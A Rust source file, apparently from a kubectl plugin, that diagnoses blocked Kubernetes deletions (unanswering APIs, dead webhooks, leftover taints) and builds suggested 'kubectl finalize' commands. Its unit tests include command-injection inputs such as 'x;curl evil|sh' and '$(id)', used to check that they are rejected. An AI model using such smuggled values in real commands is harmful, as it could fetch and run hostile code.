//! What holds deletions up wherever they come from: APIs and webhooks that do not answer; what was left neutralised.

use std::time::Duration;

use k8s_openapi::jiff::Timestamp;
use serde_json::Value;
use upkeep::{
    discovery::Kind,
    report::{Finding, ObjRef, Severity},
    ui::{command, human_duration},
};

use crate::{
    act::{NEUTRALISED, OFF, parse},
    diagnose::{Backend, Desk, Life},
    facts::{Ask, Object, singular},
};

const GROUP: &str = "admissionregistration.k8s.io";
const CONFIGURATIONS: [&str; 2] = ["validatingwebhookconfigurations", "mutatingwebhookconfigurations"];

/// Versions of which the server cannot say what is in them.
pub fn dark_apis(desk: &Desk<'_>) -> Vec<Finding> {
    let dark = desk.discovery().dark.iter();
    dark.map(|dark| Finding {
        id: "apiservice-down",
        severity: Severity::Warning,
        subjects: vec![ObjRef::cluster(
            "apiservice.apiregistration.k8s.io",
            &dark.api_service(),
            "",
        )],
        evidence: format!(
            "the API {}/{} does not answer, so no namespace can be deleted: {}",
            dark.group, dark.version, dark.reason
        ),
        hint: Some("bring its backend back, or remove the APIService if it is not needed any more".into()),
    })
    .collect()
}

/// Webhooks that must answer, and have nothing behind them.
pub fn dead_webhooks(desk: &Desk<'_>) -> Vec<Finding> {
    let mut found = Vec::new();
    for (reference, configuration) in configurations(desk) {
        let entries = configuration["webhooks"].as_array().into_iter().flatten();
        for entry in entries.filter(|e| e["failurePolicy"] != "Ignore") {
            let state = Backend::of(&entry["clientConfig"]).and_then(|backend| Some((backend.state(desk)?, backend)));
            let Some(((Life::Dead, why), backend)) = state else {
                continue;
            };
            let name = entry["name"].as_str().unwrap_or_default();
            found.push(Finding {
                id: "webhook-down",
                severity: Severity::Warning,
                subjects: vec![reference.clone()],
                evidence: format!("the webhook {name} of {reference} must answer, and cannot: {backend}: {why}"),
                hint: Some("bring its backend back, or remove the webhook if what it belongs to is gone".into()),
            });
        }
    }
    found
}

/// What a run that was cut off has left, of this plugin or of `kubectl evacuate`.
pub fn left_by_us(desk: &Desk<'_>, objects: &[(&Kind, &Object)]) -> Vec<Finding> {
    let mut found = Vec::new();
    for (kind, object) in objects {
        let reference = desk.reference(kind, object);
        if let Some(record) = object.marks.get(NEUTRALISED).and_then(|text| parse(text)) {
            let needs: Vec<_> = record.fields.iter().flat_map(|field| &field.needed).collect();
            let mut targets: Vec<&str> = needs.iter().map(|need| need.target.as_str()).collect();
            targets.dedup();
            let until = needs.iter().map(|need| need.until).max().unwrap_or_default();
            found.push(Finding {
                id: "neutralised",
                severity: Severity::Warning,
                evidence: format!(
                    "{reference} was changed for {}, and was not put back yet",
                    targets.join(", ")
                ),
                subjects: vec![reference],
                hint: Some(put_back(until, desk.now())),
            });
        } else if let Some(run) = object.marks.get(OFF) {
            let hint = match run.strip_prefix("finalize ") {
                Some(target) => match again(target) {
                    Some(line) => format!("'{line}' removes the taint"),
                    None => "the run that it names removes the taint".to_owned(),
                },
                None => {
                    let line = command("kubectl evacuate", [object.name.as_str(), "--uncordon"]);
                    format!("'{line}' removes the taint")
                }
            };
            found.push(Finding {
                id: "out-of-service",
                severity: Severity::Warning,
                evidence: format!(
                    "{reference} was tainted as out of service, and still is: every pod is thrown out of it once it is back"
                ),
                subjects: vec![reference],
                hint: Some(hint),
            });
        }
    }
    found
}

/// Who puts back what a run has left, and from when on.
fn put_back(until: Timestamp, now: Timestamp) -> String {
    match u64::try_from(until.duration_since(now).as_secs()) {
        Ok(left @ 1..) => {
            let (at, left) = (
                until.strftime("%Y-%m-%dT%H:%M:%SZ"),
                human_duration(Duration::from_secs(left)),
            );
            format!("a run for that puts it back; any run of 'kubectl finalize' does in {left} (after {at})")
        }
        _ => "the next run of 'kubectl finalize' puts it back".to_owned(),
    }
}

/// The command that takes up a run again. The annotation is written by others, too: by the kubelet of the node.
fn again(target: &str) -> Option<String> {
    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | ':' | '_');
    let parts: Vec<&str> = target.split('/').collect();
    let whole = parts
        .iter()
        .all(|part| !part.is_empty() && !part.starts_with('-') && part.chars().all(plain));
    match parts.as_slice() {
        [kind, name] if whole => Some(command("kubectl finalize", [*kind, *name])),
        [kind, namespace, name] if whole => Some(command("kubectl finalize", [*kind, *name, "-n", *namespace])),
        _ => None,
    }
}

fn configurations(desk: &Desk<'_>) -> Vec<(ObjRef, Value)> {
    let mut all = Vec::new();
    for plural in CONFIGURATIONS {
        let Some(Ok(found)) = desk.all::<Value>(&Ask::list(GROUP, plural, None)) else {
            continue;
        };
        all.extend(found.into_iter().map(|configuration| {
            let text = |field: &str| configuration["metadata"][field].as_str().unwrap_or_default();
            let one = singular(plural);
            (ObjRef::cluster(&one, text("name"), text("uid")), configuration)
        }));
    }
    all
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn times_have_whole_seconds() {
        let at = |text: &str| text.parse::<Timestamp>().unwrap_or_default();
        let until = at("2026-11-30T20:35:18.586248399Z");
        assert_eq!(
            put_back(until, at("2026-11-30T20:21:10Z")),
            "a run for that puts it back; any run of 'kubectl finalize' does in 14m (after 2026-11-30T20:35:18Z)"
        );
        assert_eq!(
            put_back(until, at("2026-11-30T20:35:19Z")),
            "the next run of 'kubectl finalize' puts it back"
        );
    }

    #[test]
    fn what_an_annotation_says_is_no_command() {
        let cases = [
            ("namespaces/stuck", Some("kubectl finalize namespaces stuck")),
            ("pods/shop/web-0", Some("kubectl finalize pods web-0 -n shop")),
            ("namespaces/x;curl evil|sh", None),
            ("namespaces/$(id)", None),
            ("namespaces/--apply=x", None),
            ("a/b/c/d", None),
            ("", None),
        ];
        for (target, wanted) in cases {
            assert_eq!(again(target).as_deref(), wanted, "{target}");
        }
    }
}
